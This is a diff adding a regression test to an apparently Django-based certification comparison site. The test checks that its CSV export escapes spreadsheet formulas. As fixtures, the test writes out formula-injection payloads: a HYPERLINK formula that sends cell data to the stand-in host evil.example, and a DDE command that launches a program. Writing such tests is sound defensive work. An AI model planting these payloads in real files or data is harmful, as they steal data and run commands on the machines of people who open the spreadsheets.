@@ -220,3 +220,29 @@ def test_pair_editorial_puts_each_verdict_under_its_own_certification(client):
         ):
             heading = f"<h3>Choose {cert.short_name} if…</h3><p>{text.split(chr(10))[0][:40]}"
             assert heading in html, (pair, cert.short_name)
+
+
+def test_csv_cells_never_carry_a_live_formula(client):
+    # A fact starting with =, +, - or @ used to be written verbatim: a spreadsheet runs it.
+    from certs.models import Value
+
+    fee = Value.objects.get(certification__slug="pmle", feature__slug="exam-fee")
+    evil = {
+        "text": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+        "note": "+cmd|' /C calc'!A0",
+        "disagreement": "-2+3",
+    }
+    Value.objects.filter(pk=fee.pk).update(**evil)
+    response = client.get("/compare/pmle-vs-ai-103/?format=csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    pmle_fee = next(r for r in rows if r[2] == "exam-fee" and r[3] == "pmle")
+    assert "'" + evil["text"] in pmle_fee and "'" + evil["note"] in pmle_fee
+    # JSON is data, not a spreadsheet: unchanged.
+    data = client.get("/compare/pmle-vs-ai-103/?format=json").json()
+    fee_row = next(
+        r for r in data["rows"] if r["row_id"] == "exam-fee" and r["certification"] == "pmle"
+    )
+    assert fee_row["value"] == evil["text"] and fee_row["note"] == evil["note"]
